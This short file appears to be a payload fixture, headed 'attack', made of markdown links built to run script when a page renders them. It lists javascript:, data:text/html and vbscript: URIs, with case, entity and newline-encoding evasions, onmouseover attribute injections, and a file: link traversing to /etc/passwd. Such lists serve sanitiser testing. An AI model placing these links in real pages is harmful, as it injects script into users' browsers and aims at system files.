# /// attack
# does = "writes links that run code"
# wall = "page"
# ///
# %% [markdown]
# [a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](data:text/html,<script>alert(1)</script>) [d](vbscript:x)
#
# [e](&#106;avascript:alert(1)) [f](java%0ascript:alert(1)) <javascript:alert(1)> [g][r] [h]( "onmouseover=alert(1)")
#
# [i](https://example.com/"onmouseover="alert(1)) ![x](javascript:alert(1)) [j](file:..%2F..%2Fetc%2Fpasswd)
#
# [r]: javascript:alert(1)
